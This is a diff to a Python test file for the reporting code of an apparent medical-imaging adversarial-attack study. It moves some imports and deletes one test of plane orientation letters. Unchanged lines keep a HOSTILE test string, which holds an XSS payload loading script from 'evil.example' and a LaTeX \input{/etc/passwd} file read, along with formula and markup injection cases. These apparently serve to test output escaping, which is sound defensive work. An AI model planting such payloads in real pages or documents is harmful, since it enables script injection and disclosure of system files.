@@ -27,9 +27,10 @@ from medadv.study.report.curves import band, dice_curves
 from medadv.study.report.montage import montage, planes
 from medadv.study.report.paired import attack_families, paired_lines
 from medadv.study.report.provenance import without_folders
-from medadv.study.report.slices import read_slices, worst_kept
 from medadv.study.report.tables import Column, Table, escape
+from medadv.study.report.worst import worst_kept
 from medadv.study.results import Results, read_results
+from medadv.study.slices import read_slices
 
 HOSTILE = '"><img src=x onerror=alert(1)><script src="https://evil.example/x.js"></script>\\input{/etc/passwd}'
 CASES = ("=1+1", "@SUM(A1)", "<b>bold<i>", "\\input{x}", "a&b;$x^2_3%", "normal-1")
@@ -239,11 +240,6 @@ def test_planes_lie_as_the_letters_say(directions: tuple[str, str, str]) -> None
         assert (above, row) in {("A", shown.shape[0] - 1), ("S", shown.shape[0] - 1)}
         assert {left: 0, right: shown.shape[1] - 1}["A" if plane.title == "sagittal" else "L"] == column
         assert {left, right, below, above} <= set("LRAPSI")
-
-
-def test_planes_of_unknown_direction_bear_no_letters() -> None:
-    for directions in (None, ("L", "L", "S"), ("?", "A", "S")):
-        assert all(plane.letters == () for _, plane in planes(directions))
 
 
 def test_the_montage_shows_the_difference_in_sigma(results: Results) -> None:
